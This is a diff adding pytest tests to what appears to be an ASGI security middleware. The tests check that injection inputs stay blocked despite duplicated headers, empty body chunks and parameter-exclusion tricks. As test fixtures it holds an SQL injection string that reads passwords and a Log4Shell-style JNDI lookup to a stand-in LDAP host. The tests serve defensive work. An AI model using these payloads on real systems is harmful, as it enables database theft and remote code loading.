@@ -575,3 +575,56 @@ def test_an_engine_that_is_not_installed_does_not_start(monkeypatch) -> None:
     monkeypatch.setattr("asgi_guard.inspection.settings.has_re2", lambda: False)
     with pytest.raises(MissingExtraError, match="re2"):
         Validation(engine="re2")
+
+
+JSON_ATTACK = b'{"q": "1 union select password from users"}'
+
+
+@pytest.mark.parametrize(
+    ("headers", "body"),
+    [
+        ([("content-encoding", "identity"), ("content-encoding", "gzip")], gzip.compress(JSON_ATTACK)),
+        ([("content-type", "text/css"), ("content-type", "application/json")], JSON_ATTACK),
+    ],
+    ids=["two encodings", "two types"],
+)
+async def test_what_two_lines_of_a_header_say_is_not_passed_over(headers, body) -> None:
+    """The application may read the other line."""
+    headers = headers if len({name for name, _ in headers}) > 1 else [*headers, ("content-length", str(len(body)))]
+    response = await call(ValidationMiddleware(Reader()), "POST", headers=headers, chunks=[body])
+    assert response.status in {400, 415}
+
+
+async def test_empty_messages_do_not_carry_a_body_past() -> None:
+    """Each counts, so that they are not kept without a bound; what is behind them is not let pass for it."""
+    app = ValidationMiddleware(Reader(), max_body_bytes=1_024)
+    chunks = [*[b""] * 2_000, JSON_ATTACK]
+    response = await call(app, "POST", headers={"content-type": "application/json"}, chunks=chunks)
+    assert response.status == 413
+
+
+async def test_what_was_not_looked_at_is_not_remembered_as_harmless() -> None:
+    """Whoever crosses a limit that only flags would let it pass for everybody."""
+    app = ValidationMiddleware(Reader(), on_limit="flag", max_fields=10)
+    attack = {"x-api": "${jndi:ldap://x.example/a}"}
+    cookies = "; ".join(f"c{number}=1" for number in range(20))
+    await call(app, headers={"cookie": cookies, **attack})
+    assert (await call(app, headers=attack)).status == 400
+
+
+@pytest.mark.parametrize(("name", "status"), [("user[bio]", 200), ("userb", 400), ("user", 400)])
+async def test_brackets_in_a_name_that_is_excluded_are_brackets(name, status) -> None:
+    """Many frameworks write their parameters so; only a star stands for anything."""
+    app = ValidationMiddleware(Reader(), exclude=[Exclusion(names=["user[bio]"])])
+    response = await call(app, path=f"/?{quote(name)}={quote('1 union select password from users')}")
+    assert response.status == status
+
+
+async def test_what_stands_inside_of_a_parameter_is_excluded_by_the_name_of_the_parameter() -> None:
+    """A client names what is inside, and would exclude whatever it likes."""
+    inner = quote('{"comment": "1 union select password from users"}')
+    by_inner, by_outer = (
+        ValidationMiddleware(Reader(), exclude=[Exclusion(names=[name])]) for name in ("comment", "q")
+    )
+    assert (await call(by_inner, path=f"/?q={inner}")).status == 400
+    assert (await call(by_outer, path=f"/?q={inner}")).status == 200
